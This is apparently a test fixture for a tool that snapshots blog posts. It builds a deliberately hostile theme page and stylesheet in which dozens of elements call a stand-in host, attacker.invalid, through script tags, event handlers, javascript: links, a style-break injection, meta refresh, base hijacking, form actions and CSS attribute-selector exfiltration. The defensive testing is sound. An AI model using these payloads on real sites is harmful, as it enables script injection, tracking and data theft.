/**
 * Theme pages as a hostile or careless blog could serve them: every way a page can run code,
 * reach the network, navigate, or submit something, next to a post the snapshot must find.
 */
export const ATTACKER = 'http://attacker.invalid';

export const POST = {
  url: 'https://blog.example/2026/12/01/on-reading/',
  title: 'On reading slowly',
  html: '<p>Reading slowly is a way of <em>listening</em> to the writer.</p><p>It takes the time the words took.</p>',
  tags: ['Reading', 'Attention'],
};

export const hostilePage = `<!doctype html>
<html lang="en" class="theme-root" onload="alert(1)">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="${ATTACKER}/base/">
<title>On reading slowly – Blog</title>
<link rel="stylesheet" href="https://blog.example/theme/style.css" media="screen">
<link rel="dns-prefetch" href="//dns.attacker.invalid">
<link rel="preload" href="${ATTACKER}/preload.js" as="script">
<link rel="icon" href="${ATTACKER}/favicon.ico">
<script>fetch('${ATTACKER}/script')</script>
<script src="${ATTACKER}/external.js"></script>
<style>
@import url("${ATTACKER}/import.css");
body { background: url(${ATTACKER}/background.png); font-family: Georgia, serif; }
.icon { background-image: image-set("${ATTACKER}/set.png" 1x); }
input[value^="a"] { background: url(${ATTACKER}/exfiltrate?a); }
</style>
<style>/* </style><script>fetch('${ATTACKER}/style-break')</script> */</style>
</head>
<body class="single single-post" onpageshow="fetch('${ATTACKER}/pageshow')">
<!-- a comment that looks like <!--commonplace:body--> -->
<header class="site-header"><a href="https://blog.example/" onclick="fetch('${ATTACKER}/click')">The Blog</a>
<img src="${ATTACKER}/tracker.gif" onerror="fetch('${ATTACKER}/onerror')" srcset="${ATTACKER}/big.gif 2x" width="1" height="1">
<nav><a href="javascript:fetch('${ATTACKER}/js-link')">Home</a> <a href="/about/" ping="${ATTACKER}/ping">About</a></nav>
<form action="${ATTACKER}/form" method="post"><input type="search" name="s" value="secret"><input type="image" src="${ATTACKER}/input.png"><button formaction="${ATTACKER}/formaction">Search</button></form>
</header>
<main class="site-main">
<article class="post">
<h1 class="entry-title" onmouseover="fetch('${ATTACKER}/hover')">On reading slowly</h1>
<div class="entry-content" data-commonplace="tags">
<p>Reading slowly is a way of <em>listening</em> to the writer.</p>
<p style="background:url(${ATTACKER}/inline-style.png)">It takes the time the words took.</p>
</div>
<footer class="entry-footer"><span class="tags-links">Tagged <a href="/tag/reading/" rel="tag">Reading</a>, <a href="/tag/attention/" rel="tag">Attention</a></span></footer>
</article>
<iframe src="${ATTACKER}/iframe"></iframe>
<object data="${ATTACKER}/object"></object><embed src="${ATTACKER}/embed">
<svg width="10" height="10"><script>fetch('${ATTACKER}/svg-script')</script><image href="${ATTACKER}/svg-image.png"/><use href="${ATTACKER}/sprite.svg#x"/><a href="javascript:alert(1)"><circle r="5" fill="url(#g)"/></a><rect width="5" height="5" fill="red" onclick="alert(1)"/></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<video src="${ATTACKER}/video.mp4" poster="${ATTACKER}/poster.png"></video>
<noscript><img src="${ATTACKER}/noscript.png"></noscript>
<template><img src="${ATTACKER}/template.png"></template>
<area href="${ATTACKER}/area">
<details open ontoggle="fetch('${ATTACKER}/toggle')"><summary>More</summary></details>
</main>
</body>
</html>`;

/** The theme's stylesheet, with a font, an image and an import of its own. */
export const hostileStylesheet = `@import "parts/more.css" print;
@font-face { font-family: "Theme Sans"; src: url(fonts/theme.woff2) format("woff2"), url(${ATTACKER}/font.woff) format("woff"); }
.entry-title { font-family: "Theme Sans", sans-serif; background: url("img/title.png") no-repeat; }
.entry-content { max-width: 40em; margin: 0 auto; }
.remote { background: url(${ATTACKER}/css-remote.png); cursor: url(${ATTACKER}/cursor.cur), auto; }
:root { --bad: url(${ATTACKER}/custom-property.png); }
`;
